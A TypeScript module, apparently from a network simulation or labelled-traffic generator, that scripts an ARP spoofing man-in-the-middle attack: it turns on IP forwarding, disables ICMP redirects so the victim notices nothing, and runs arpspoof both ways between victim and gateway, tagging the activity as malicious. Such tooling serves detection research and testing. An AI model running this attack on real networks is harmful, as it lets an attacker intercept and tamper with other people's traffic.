/** A host that makes itself the man in the middle between another and the gateway. */

import type { Deed } from '../deed.ts'
import { type HostName, lan } from '../plan.ts'
import type { World } from '../world.ts'

export interface SpoofOptions {
  readonly from?: HostName
  readonly victim?: HostName
  readonly seconds: number
}

export async function spoofArp(world: World, options: SpoofOptions): Promise<void> {
  const { from = 'laptop', victim = 'client', seconds } = options
  const host = world.host(from)
  const address = world.host(victim).address
  // It passes the traffic on, so that the victim notices nothing, and sends no redirects.
  const settings = ['ip_forward=1', 'conf.all.send_redirects=0', 'conf.eth0.send_redirects=0']
  const lines = settings.map((setting) => {
    const [key, value] = setting.split('=')
    return `echo ${value} > /proc/sys/net/ipv4/${key!.replaceAll('.', '/')}`
  })
  await host.run(['sh', '-c', lines.join('; ')])
  const deeds: Deed[] = [
    { behaviour: 'arp-spoofing', protocol: 'arp', client: host.address, server: address },
    { behaviour: 'arp-spoofing', protocol: 'arp', client: host.address, server: lan.gateway },
  ]
  await world.malicious(deeds, async () => {
    const pair = [
      [address, lan.gateway],
      [lan.gateway, address],
    ] as const
    const liars = pair.map(([told, claimed]) =>
      host.spawn(['arpspoof', '-i', 'eth0', '-t', told, claimed]),
    )
    await world.beside(liars, () => world.pause(seconds * 1000))
  })
}
